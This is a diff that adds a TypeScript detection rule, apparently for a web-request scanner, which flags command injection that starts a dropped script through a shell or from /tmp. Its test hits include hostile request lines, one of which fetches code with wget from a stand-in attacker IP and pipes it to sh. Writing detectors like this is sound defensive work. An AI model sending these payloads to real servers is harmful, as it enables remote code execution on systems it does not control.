@@ -1,0 +1,56 @@
+import { defineRule } from '../rule.ts'
+
+export default defineRule({
+  id: 'cmdi/run-file',
+  title: 'A dropped file is started',
+  why: 'Runs a script or program by a shell, from the current folder or a temporary one: the last step of a dropper.',
+  ja: {
+    title: '置いたファイルの実行',
+    why: 'シェル経由、またはカレントや一時フォルダーから、スクリプトやプログラムを起動しています。ドロッパーの最後の手順です。',
+  },
+  severity: 'critical',
+  stage: 'execute',
+  attack: ['T1059.004'],
+  cwe: [78],
+  refs: [
+    'https://attack.mitre.org/techniques/T1059/004/',
+    'https://owasp.org/www-community/attacks/Command_Injection',
+  ],
+
+  where: ['path', 'query', 'referrer', 'agent', 'user'],
+  needs: [
+    [
+      ...[';', '; ', '&& ', '&&', '| ', '|', '& '].flatMap((mark) => [
+        `${mark}sh `,
+        `${mark}sh+`,
+        `${mark}bash`,
+        `${mark}ash `,
+        `${mark}dash `,
+        `${mark}perl `,
+        `${mark}python`,
+        `${mark}./`,
+        `${mark}/tmp/`,
+        `${mark}/bin/sh`,
+        `${mark}/bin/bash`,
+        `${mark}busybox sh`,
+      ]),
+      '|sh',
+      '| sh',
+    ],
+  ],
+  match:
+    /(?:[;|]|&&|&\s)\s?(?:(?:\/bin\/|busybox\s)?(?:ba|da|[azk])?sh[\s+]+(?:-\w+\s+)?[\w./-]*[\w*]|(?:perl|python\d?)\s+[\w./-]{0,80}\w\.(?:pl|py)\b|\.\/[\w.-]+|\/(?:tmp|var\/tmp|dev\/shm)\/[\w./-]+)|\|\s?(?:\/bin\/)?(?:ba|da|a)?sh(?:$|[\s"'&);`|])/i,
+
+  hits: [
+    'GET /cgi-bin/a.cgi?x=;sh+/tmp/x.sh HTTP/1.1',
+    'GET /a?c=$(wget${IFS}-qO-${IFS}http://203.0.113.9/i|sh) HTTP/1.1',
+    'GET /cgi-bin/a.cgi?x=1;cd+/tmp;./arm7+exploit HTTP/1.1',
+    'GET /ping?h=;sh${IFS}get.sh HTTP/1.1',
+  ],
+  misses: [
+    'GET /find?q=fish;shop=1 HTTP/1.1',
+    'GET /a/b;sh=1 HTTP/1.1',
+    'GET /list?cols=name|shape|size HTTP/1.1',
+    { request: 'GET / HTTP/1.1', agent: 'Mozilla/5.0 (compatible; ShopBot/1.0; Bash)' },
+  ],
+})
